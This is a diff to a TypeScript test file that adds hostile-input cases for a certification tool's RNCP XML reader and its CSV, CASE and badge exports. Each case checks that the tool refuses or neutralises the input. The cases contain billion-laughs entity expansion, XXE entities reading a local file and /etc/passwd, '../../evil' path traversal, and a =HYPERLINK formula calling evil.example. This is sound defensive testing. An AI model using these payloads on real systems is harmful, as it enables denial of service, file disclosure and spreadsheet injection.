@@ -1,4 +1,4 @@
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { repoRoot, runInProcess } from '../helpers/cli.js';
 import {
@@ -47,7 +47,7 @@ export interface Prepared {
 /** One hostile input. */
 export interface HostileCase {
   readonly name: string;
-  readonly area: 'référentiel' | 'session' | 'evaluation' | 'entry' | 'csv';
+  readonly area: 'référentiel' | 'session' | 'evaluation' | 'entry' | 'csv' | 'interop';
   /** Needs the base project (session s1, candidates c001/c002, c001 BC01 graded as a draft). */
   readonly project?: boolean;
   /** Slow by design (large inputs, or a bug that burns its whole time limit): run alone. */
@@ -1415,6 +1415,242 @@ const csvCases: HostileCase[] = [
   },
 ];
 
+// ── interoperability: the RNCP export reader, CASE, Open Badges and CSV exports ─────────────
+
+/** The start of a France Compétences export, around one fiche's title. */
+const rncpXml = (title: string, prolog = '') =>
+  `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}<FICHES><VERSION_FLUX>4.1</VERSION_FLUX>\n` +
+  `<FICHE><NUMERO_FICHE>RNCP1</NUMERO_FICHE><INTITULE>${title}</INTITULE><ACTIF>Oui</ACTIF>` +
+  `<BLOCS_COMPETENCES><BLOC_COMPETENCES><CODE>RNCP1BC01</CODE><LIBELLE>Bloc</LIBELLE>` +
+  `<LISTE_COMPETENCES>- Accueillir</LISTE_COMPETENCES></BLOC_COMPETENCES></BLOCS_COMPETENCES>` +
+  `</FICHE></FICHES>\n`;
+
+/** Ten levels of ten: 10^9 "lol" if anything expanded them. */
+const laughs =
+  '<!DOCTYPE FICHES [\n  <!ENTITY lol0 "lol">\n' +
+  Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">\n`).join(
+    '',
+  ) +
+  ']>\n';
+
+/** A formula a spreadsheet would run, as the wording of BC01.C1. */
+const FORMULA = '=HYPERLINK("http://evil.example/?x";"Cliquez")';
+const C1_LABEL =
+  'label: "Prendre en charge en face à face ou à distance un client / un prospect afin d’effectuer l’étude préalable de la demande, du besoin client"';
+const REF_WITH_FORMULA = replaceOnce(REF, C1_LABEL, `label: ${JSON.stringify(FORMULA)}`);
+
+/** An `rncp` case: write `xml` as export.xml, run `argv`, expect a one-line refusal. */
+function xmlCase(
+  name: string,
+  xml: string | Uint8Array,
+  argv: readonly string[],
+  expected: Partial<Prepared> & { code: number; output: RegExp },
+): HostileCase {
+  return {
+    name,
+    area: 'interop',
+    async prepare(dir) {
+      await dir.write('export.xml', xml);
+      return { argv, ...expected };
+    },
+  };
+}
+
+const noOutput = (run: BinaryRun) => {
+  if (run.stdout !== '') throw new Error(`expected nothing on stdout, got ${run.stdout}`);
+};
+
+const interopCases: HostileCase[] = [
+  xmlCase(
+    'RNCP export with a billion-laughs DOCTYPE (list)',
+    rncpXml('&lol9;', laughs),
+    ['rncp', 'list', 'export.xml'],
+    {
+      code: 1,
+      output: /export\.xml:2:1 : déclaration DOCTYPE refusée/,
+      check: (run) => {
+        noOutput(run);
+        if (run.stderr.includes('lollol')) throw new Error('an entity was expanded');
+      },
+    },
+  ),
+  {
+    name: 'RNCP export whose DOCTYPE declares 50 MB of entities (refused at once)',
+    area: 'interop',
+    heavy: true,
+    async prepare(dir) {
+      const entity = (i: number) => `  <!ENTITY e${i} "${'x'.repeat(1000)}">\n`;
+      const count = 50_000;
+      const parts: string[] = ['<!DOCTYPE FICHES [\n'];
+      for (let i = 0; i < count; i++) parts.push(entity(i));
+      parts.push(']>\n');
+      await dir.write('export.xml', rncpXml('&e1;', parts.join('')));
+      return {
+        argv: ['rncp', 'list', 'export.xml'],
+        code: 1,
+        output: /export\.xml:2:1 : déclaration DOCTYPE refusée/,
+        cpuLimitMs: 3_000,
+        check: noOutput,
+      };
+    },
+  },
+  xmlCase(
+    'RNCP export with a billion-laughs DOCTYPE (import writes nothing)',
+    rncpXml('&lol9;', laughs),
+    ['rncp', 'import', 'export.xml', '--fiche', 'RNCP1'],
+    { code: 1, output: /export\.xml:2:1 : déclaration DOCTYPE refusée/ },
+  ),
+  {
+    name: 'RNCP export with an external entity (XXE) naming a local file',
+    area: 'interop',
+    async prepare(dir) {
+      const secret = path.join(dir.outer, 'secret.txt');
+      writeFileSync(secret, 'TOP-SECRET-42\n');
+      await dir.write(
+        'export.xml',
+        rncpXml('&x;', `<!DOCTYPE FICHES [ <!ENTITY x SYSTEM "file://${secret}"> ]>\n`),
+      );
+      return {
+        argv: ['rncp', 'import', 'export.xml', '--fiche', 'RNCP1', '--out', '-'],
+        code: 1,
+        output: /export\.xml:2:1 : déclaration DOCTYPE refusée/,
+        check: (run) => {
+          noOutput(run);
+          if (run.stderr.includes('TOP-SECRET')) throw new Error('the local file was read');
+        },
+      };
+    },
+  },
+  {
+    name: 'RNCP export with an external entity to /etc/passwd (check)',
+    area: 'interop',
+    async prepare(dir) {
+      await dir.write(REF_FILE, replaceOnce(REF, 'legal_basis:', 'rncp: RNCP1\nlegal_basis:'));
+      await dir.write(
+        'export.xml',
+        rncpXml('&x;', '<!DOCTYPE FICHES [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>\n'),
+      );
+      return {
+        argv: ['rncp', 'check', 'export.xml', REF_FILE],
+        code: 1,
+        output: /export\.xml:2:1 : déclaration DOCTYPE refusée/,
+        check: (run) => {
+          noOutput(run);
+          if (/root:.*:0:0:/.test(run.stderr)) throw new Error('/etc/passwd was read');
+        },
+      };
+    },
+  },
+  xmlCase(
+    'RNCP export in Latin-1 without a declaration says where the first bad byte is',
+    Buffer.from(rncpXml('Comptabilité'), 'latin1'),
+    ['rncp', 'list', 'export.xml'],
+    { code: 1, output: /export\.xml:3:63 : octets invalides en UTF-8/, check: noOutput },
+  ),
+  xmlCase(
+    'RNCP export declared ISO-8859-1',
+    Buffer.from(
+      rncpXml('Comptabilité').replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'),
+      'latin1',
+    ),
+    ['rncp', 'import', 'export.xml', '--fiche', 'RNCP1'],
+    {
+      code: 1,
+      output:
+        /export\.xml:1:1 : export encodé en ISO-8859-1, pas en UTF-8\.\n.*iconv -f ISO-8859-1/,
+    },
+  ),
+  xmlCase('RNCP export of 0 bytes', '', ['rncp', 'list', 'export.xml'], {
+    code: 1,
+    output: /export\.xml:1:1 : fichier vide \(0 octet\)/,
+    check: noOutput,
+  }),
+  xmlCase(
+    'rncp import --fiche ../../evil',
+    rncpXml('Titre'),
+    ['rncp', 'import', 'export.xml', '--fiche', '../../evil'],
+    { code: 2, output: /Numéro de fiche invalide : « \.\.\/\.\.\/evil »/ },
+  ),
+  xmlCase(
+    'rncp import --id ../../evil',
+    rncpXml('Titre'),
+    ['rncp', 'import', 'export.xml', '--fiche', 'RNCP1', '--id', '../../evil'],
+    { code: 2, output: /Identifiant invalide : « \.\.\/\.\.\/evil »/ },
+  ),
+  {
+    name: 'a wording =HYPERLINK(…) exported as CSV is neutralised',
+    area: 'interop',
+    async prepare(dir) {
+      await dir.write('referentials/relation-client.yaml', REF_WITH_FORMULA);
+      await dir.write('c.csv', CSV_HEADER + 'c001;Durand;Léa;BC01;\n');
+      for (const argv of [
+        ['init', 'sessions/s1', '--referential', 'relation-client'],
+        ['candidates', 'import', 'c.csv'],
+      ]) {
+        const r = await runInProcess(argv, { cwd: dir.root });
+        if (r.code !== 0) throw new Error(`certif ${argv.join(' ')}: ${r.stderr}`);
+      }
+      return {
+        argv: ['export', 'csv', '--by', 'competency', '--out', 'out.csv'],
+        code: 0,
+        output: /Délibération non close/,
+        mayChange: ['out.csv'],
+        after: async (d) => {
+          const text = await d.read('out.csv');
+          // RFC 4180: quotes doubled; the cell starts with ' so no spreadsheet runs it.
+          const cell = `"'${FORMULA.replace(/"/g, '""')}"`;
+          if (!text.includes(`;BC01.C1;${cell};`)) throw new Error(`not neutralised:\n${text}`);
+        },
+      };
+    },
+  },
+  {
+    name: 'a wording =HYPERLINK(…) exported as CASE JSON is kept verbatim, valid JSON',
+    area: 'interop',
+    async prepare(dir) {
+      await dir.write(REF_FILE, REF_WITH_FORMULA);
+      return {
+        argv: ['export', 'case', REF_FILE, '--out', 'case.json'],
+        code: 0,
+        mayChange: ['case.json'],
+        after: async (d) => {
+          const pkg = JSON.parse(await d.read('case.json')) as {
+            CFItems: { humanCodingScheme: string; fullStatement: string }[];
+          };
+          const c1 = pkg.CFItems.find((i) => i.humanCodingScheme === 'BC01.C1');
+          if (c1?.fullStatement !== FORMULA) throw new Error(`changed: ${c1?.fullStatement}`);
+        },
+      };
+    },
+  },
+  {
+    name: 'export badges --out pointing at a file',
+    area: 'interop',
+    project: true,
+    async prepare(dir) {
+      await dir.write('badges.json', '{"keep": true}\n');
+      return {
+        argv: ['export', 'badges', '--out', 'badges.json'],
+        code: 1,
+        output: /Impossible d’écrire badges\.json : c’est un fichier, --out attend un dossier/,
+      };
+    },
+  },
+  {
+    name: 'export case --out pointing at a folder',
+    area: 'interop',
+    async prepare(dir) {
+      await dir.write(REF_FILE, REF);
+      await dir.mkdir('case.json');
+      return {
+        argv: ['export', 'case', REF_FILE, '--out', 'case.json'],
+        code: 1,
+        output: /Impossible d’écrire case\.json/,
+      };
+    },
+  },
+];
+
 /** Every hostile case. */
 export const hostileCases: readonly HostileCase[] = [
   ...referentialCases,
@@ -1422,4 +1658,5 @@ export const hostileCases: readonly HostileCase[] = [
   ...evaluationCases,
   ...entryCases,
   ...csvCases,
+  ...interopCases,
 ];
